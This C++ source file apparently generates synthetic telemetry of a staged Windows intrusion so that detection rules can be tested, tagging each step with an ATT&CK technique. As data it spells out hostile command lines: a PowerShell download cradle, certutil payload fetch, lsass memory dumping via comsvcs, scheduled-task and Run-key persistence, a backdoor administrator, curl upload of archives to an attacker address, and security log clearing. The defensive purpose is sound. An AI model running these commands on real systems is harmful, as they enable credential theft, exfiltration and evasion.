#include "scenario/internal/intrusion.h"

#include <chrono>
#include <string>

#include <fmt/format.h>

#include "base/utf.h"

namespace longwatch::scenario::internal {
namespace {

using std::chrono::milliseconds;
using std::chrono::minutes;
using std::chrono::seconds;

constexpr StepFacts kSteps[] = {
    {"the web server writes a web shell", "T1505.003", "web_shell_written_by_web_server"},
    {"the web shell starts a command shell", "T1059.003", "web_server_starts_command_shell"},
    {"groups of the domain are listed", "T1069.002",
     "domain_groups_listed web_server_starts_command_shell"},
    {"PowerShell runs an encoded command that downloads code", "T1059.001",
     "powershell_downloads_and_runs powershell_encoded_command web_server_starts_command_shell"},
    {"certutil fetches a library from the intruder's server", "T1105",
     "certutil_downloads web_server_starts_command_shell"},
    {"rundll32 runs the library", "T1218.011",
     "rundll32_runs_from_writable_folder web_server_starts_command_shell"},
    {"the library calls the intruder's server", "T1071.001", "rundll32_connects_outside"},
    {"a scheduled task starts the library at every logon", "T1053.005",
     "schtasks_creates_system_task task_runs_from_writable_folder"},
    {"a Run key starts the library", "T1547.001", "run_key_points_to_writable_folder"},
    {"the memory of lsass is dumped", "T1003.001",
     "lsass_dumped_with_comsvcs lsass_opened_through_comsvcs"},
    {"the web service's account logs on to the file server", "T1021.002",
     "service_account_logs_on_from_web_zone"},
    {"a service is installed on the file server", "T1543.003",
     "rundll32_runs_from_writable_folder service_runs_script_host"},
    {"a local administrator is created", "T1136.001",
     "account_created_by_command administrator_added"},
    {"WMI starts PowerShell on a workstation", "T1047",
     "powershell_encoded_command service_account_logs_on_from_web_zone wmi_starts_script_host"},
    {"drafts are packed with a password", "T1560.001", "archive_with_password_made"},
    {"the archive is uploaded to the intruder's server", "T1048.002", "curl_uploads_to_address"},
    {"security logs are cleared", "T1070.001", "security_log_cleared wevtutil_clears_log"},
};

constexpr std::string_view kCommandShell = "C:\\Windows\\System32\\cmd.exe";
constexpr std::string_view kPowerShell =
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
constexpr std::string_view kLibrary = "C:\\ProgramData\\wu.dll";
constexpr std::string_view kWebFolder = "c:\\windows\\system32\\inetsrv\\";
constexpr std::string_view kDumpTrace =
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
    "C:\\Windows\\system32\\dbgcore.DLL+6ceb|C:\\Windows\\system32\\dbgcore.DLL+ab27|"
    "C:\\Windows\\System32\\comsvcs.dll+2d4c1|C:\\Windows\\system32\\rundll32.exe+3b30";
constexpr std::string_view kDownloadScript =
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/up.ps1')";
constexpr std::string_view kSearchScript =
    "Get-ChildItem H:\\Drafts -Recurse -Include *.docx | Select-Object FullName, Length";

std::string system32(std::string_view name) {
  return fmt::format("C:\\Windows\\System32\\{}", name);
}

std::string base64(std::string_view bytes) {
  constexpr std::string_view kDigits =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  for (std::size_t i = 0; i < bytes.size(); i += 3) {
    std::uint32_t bits = 0;
    for (std::size_t k = 0; k < 3; ++k) {
      const char byte = i + k < bytes.size() ? bytes[i + k] : '\0';
      bits = (bits << 8U) | static_cast<unsigned char>(byte);
    }
    for (std::size_t k = 0; k < 4; ++k) {
      const bool filled = i + k <= bytes.size();
      out.push_back(filled ? kDigits[(bits >> (18 - 6 * k)) & 0x3FU] : '=');
    }
  }
  return out;
}

// What powershell.exe takes behind -EncodedCommand: base64 of UTF-16LE.
std::string encoded_command(std::string_view script) {
  std::string utf16le;
  append_utf8_as_utf16le(utf16le, script);
  return base64(utf16le);
}

/// Who does what, where, and at which step: keeps the clock of the story.
class Intruder {
 public:
  Intruder(Office& office, Timestamp start)
      : office_(office),
        web_(office.hosts[kWebServer]),
        files_(office.hosts[kFileServer]),
        desk_(office.hosts[kDesk]),
        now_(start),
        pool_(web_.new_session(office.web_service, 0, Integrity::High)),
        worker_(web_.running("C:\\Windows\\System32\\inetsrv\\w3wp.exe",
                             "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"BillsTracker\" -v "
                             "\"v4.0\" -l \"webengine4.dll\"",
                             pool_, start - minutes(317))) {}

  void break_in();
  void look_around();
  void bring_tools();
  void settle();
  void steal_passwords();
  void move_to_files();
  void search_the_desk();
  void take_drafts();
  void wipe_traces();

 private:
  void begin_step(std::uint32_t number, minutes pause);
  void wait(std::uint32_t most_seconds);
  Process run(HostRecorder& host, const Process& parent, std::string image,
              std::string command_line);
  Process run_in_shell(const std::string& name, const std::string& command_line);

  Office& office_;
  HostRecorder& web_;
  HostRecorder& files_;
  HostRecorder& desk_;
  Timestamp now_;
  Session pool_;
  Process worker_;
  Process implant_;
  Process remote_implant_;
};

void Intruder::begin_step(std::uint32_t number, minutes pause) {
  now_ += pause + seconds(web_.random().below(180));
  for (HostRecorder* const host : {&web_, &files_, &desk_}) {
    host->set_origin({Origin::Kind::Step, number});
  }
}

void Intruder::wait(std::uint32_t most_seconds) {
  now_ += milliseconds(web_.random().between(200, most_seconds * 1000));
}

Process Intruder::run(HostRecorder& host, const Process& parent, std::string image,
                      std::string command_line) {
  wait(3);
  return host.start(now_, parent, parent.session,
                    {.image = std::move(image), .command_line = std::move(command_line)});
}

// The web shell hands every line to a command shell of its own.
Process Intruder::run_in_shell(const std::string& name, const std::string& command_line) {
  wait(40);
  const Process shell =
      web_.start(now_, worker_, pool_,
                 {.image = std::string(kCommandShell),
                  .command_line = fmt::format("\"cmd.exe\" /c {} 2>&1", command_line),
                  .directory = std::string(kWebFolder)});
  Process command = run(web_, shell, system32(name), command_line);
  web_.end(now_ + seconds(2), command);
  web_.end(now_ + seconds(2), shell);
  return command;
}

void Intruder::break_in() {
  begin_step(1, minutes(0));
  web_.create_file(now_, worker_, "C:\\inetpub\\wwwroot\\BillsTracker\\attachments\\sb_help.aspx");
  begin_step(2, minutes(5));
  run_in_shell("whoami.exe", "whoami /all");
}

void Intruder::look_around() {
  begin_step(3, minutes(1));
  const Process net = run_in_shell("net.exe", "net  group \"Domain Admins\" /domain");
  run(web_, net, system32("net1.exe"),
      "C:\\Windows\\system32\\net1  group \"Domain Admins\" /domain");
  run_in_shell("systeminfo.exe", "systeminfo");
}

void Intruder::bring_tools() {
  begin_step(4, minutes(9));
  const std::string line =
      "powershell -NoP -NonI -W Hidden -Enc " + encoded_command(kDownloadScript);
  const Process shell = web_.start(now_, worker_, pool_,
                                   {.image = std::string(kPowerShell),
                                    .command_line = line,
                                    .directory = std::string(kWebFolder)});
  web_.log_script(now_ + milliseconds(640), shell, kDownloadScript, "");
  web_.connect(now_ + milliseconds(910), shell, {std::string(kBadAddress), "", 80});

  begin_step(5, minutes(4));
  const Process certutil = run_in_shell(
      "certutil.exe",
      fmt::format("certutil.exe -urlcache -split -f http://{}/wu.txt {}", kBadAddress, kLibrary));
  web_.connect(now_ + milliseconds(150), certutil, {std::string(kBadAddress), "", 80});
  web_.create_file(now_ + milliseconds(420), certutil, kLibrary);

  begin_step(6, minutes(2));
  implant_ = run_in_shell("rundll32.exe", fmt::format("rundll32.exe {},Start", kLibrary));
  web_.load_image(now_ + milliseconds(35), implant_, kLibrary, Signed::No);

  begin_step(7, minutes(0));
  web_.query_name(now_, implant_, kBadDomain, kBadAddress);
  web_.connect(now_ + milliseconds(80), implant_,
               {std::string(kBadAddress), std::string(kBadDomain), 443});
}

void Intruder::settle() {
  begin_step(8, minutes(12));
  const std::string action = fmt::format("rundll32.exe {},Start", kLibrary);
  run(web_, implant_, system32("schtasks.exe"),
      fmt::format("schtasks  /create /tn \"WinUpdateCheck\" /tr \"{}\" /sc ONLOGON /ru SYSTEM /f",
                  action));
  web_.register_task(now_ + milliseconds(90), pool_, "\\WinUpdateCheck", "rundll32.exe",
                     fmt::format("{},Start", kLibrary));

  begin_step(9, minutes(1));
  constexpr std::string_view kRunKey = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run";
  const Process reg = run(
      web_, implant_, system32("reg.exe"),
      fmt::format("reg  add HKLM\\{} /v WinUpdateCheck /t REG_SZ /d \"{}\" /f", kRunKey, action));
  web_.set_registry_value(now_ + milliseconds(20), reg,
                          fmt::format("HKLM\\{}\\WinUpdateCheck", kRunKey), action);
}

void Intruder::steal_passwords() {
  begin_step(10, minutes(17));
  const Process dumper =
      run(web_, implant_, system32("rundll32.exe"),
          fmt::format("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {} "
                      "C:\\ProgramData\\d.dmp full",
                      web_.lsass().id));
  web_.load_image(now_ + milliseconds(12), dumper, "C:\\Windows\\System32\\comsvcs.dll",
                  Signed::Yes);
  web_.open_process(now_ + milliseconds(30), dumper, web_.lsass(), 0x1FFFFF, kDumpTrace);
  web_.create_file(now_ + milliseconds(45), dumper, "C:\\ProgramData\\d.dmp");
}

void Intruder::move_to_files() {
  begin_step(11, minutes(38));
  const LogonStory story = {office_.web_service, 3, "WEB01", web_.host().address};
  for (int i = 0; i < 3; ++i) {
    files_.fail_logon(now_, story);
    wait(20);
  }
  const Session remote = files_.new_session(office_.web_service, 0, Integrity::High);
  files_.log_on(now_, {office_.web_service, 3, "-", web_.host().address}, remote);

  begin_step(12, minutes(1));
  const std::string command = fmt::format("start /b rundll32.exe {},Start", kLibrary);
  files_.install_service(now_, remote, "WinUpdateCheck",
                         fmt::format("%COMSPEC% /c \"{}\"", command));
  const Process shell = run(files_, files_.services(), std::string(kCommandShell),
                            fmt::format("C:\\Windows\\system32\\cmd.exe /c \"{}\"", command));
  remote_implant_ =
      run(files_, shell, system32("rundll32.exe"), fmt::format("rundll32.exe  {},Start", kLibrary));
  files_.end(now_, shell);

  begin_step(13, minutes(6));
  const Account helper = {"FS01", "hd_support", "S-1-5-21-1811456102-2207773314-994021576-1004"};
  const std::string add = "net  user hd_support Autumn-2026! /add";
  const Process net = run(files_, remote_implant_, system32("net.exe"), add);
  run(files_, net, system32("net1.exe"),
      "C:\\Windows\\system32\\net1  user hd_support "
      "Autumn-2026! /add");
  files_.create_account(now_, remote_implant_.session, helper);
  run(files_, remote_implant_, system32("net.exe"),
      "net  localgroup Administrators hd_support /add");
  files_.add_administrator(now_, remote_implant_.session, helper);
}

void Intruder::search_the_desk() {
  begin_step(14, minutes(21));
  const Session remote = desk_.new_session(office_.web_service, 0, Integrity::High);
  desk_.log_on(now_, {office_.web_service, 3, "-", web_.host().address}, remote);
  const Process provider =
      desk_.running("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
                    "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", remote, now_);
  const Process shell = run(desk_, provider, std::string(kPowerShell),
                            "powershell.exe -NoP -W Hidden -Enc " + encoded_command(kSearchScript));
  desk_.log_script(now_ + milliseconds(500), shell, kSearchScript, "");
  desk_.query_name(now_ + seconds(4), shell, kBadDomain, kBadAddress);
  desk_.connect(now_ + seconds(4) + milliseconds(60), shell,
                {std::string(kBadAddress), std::string(kBadDomain), 443});
}

void Intruder::take_drafts() {
  begin_step(15, minutes(34));
  const Process packer = run(files_, remote_implant_, "C:\\PerfLogs\\rar.exe",
                             "C:\\PerfLogs\\rar.exe a -r -hpTv7!kq -v50m C:\\PerfLogs\\u1.rar "
                             "D:\\Shares\\Bills\\Drafts\\*.docx");
  for (int part = 1; part <= 3; ++part) {
    wait(30);
    files_.create_file(now_, packer, fmt::format("C:\\PerfLogs\\u1.part{}.rar", part));
  }

  begin_step(16, minutes(11));
  for (int part = 1; part <= 3; ++part) {
    const Process curl = run(
        files_, remote_implant_, system32("curl.exe"),
        fmt::format("curl.exe -k -T C:\\PerfLogs\\u1.part{}.rar https://{}/u/", part, kBadAddress));
    files_.connect(now_ + milliseconds(130), curl, {std::string(kBadAddress), "", 443});
    wait(90);
  }
}

void Intruder::wipe_traces() {
  begin_step(17, minutes(26));
  const Process first =
      run(files_, remote_implant_, system32("wevtutil.exe"), "wevtutil  cl Security");
  files_.clear_security_log(now_ + milliseconds(50), first.session);
  const Process second = run(web_, implant_, system32("wevtutil.exe"), "wevtutil  cl Security");
  web_.clear_security_log(now_ + milliseconds(50), second.session);
  for (HostRecorder* const host : {&web_, &files_, &desk_}) {
    host->set_origin({});
  }
}

}  // namespace

std::span<const StepFacts> intrusion_steps() {
  return kSteps;
}

void record_intrusion(Office& office, Timestamp start) {
  Intruder intruder(office, start);
  intruder.break_in();
  intruder.look_around();
  intruder.bring_tools();
  intruder.settle();
  intruder.steal_passwords();
  intruder.move_to_files();
  intruder.search_the_desk();
  intruder.take_drafts();
  intruder.wipe_traces();
}

}  // namespace longwatch::scenario::internal
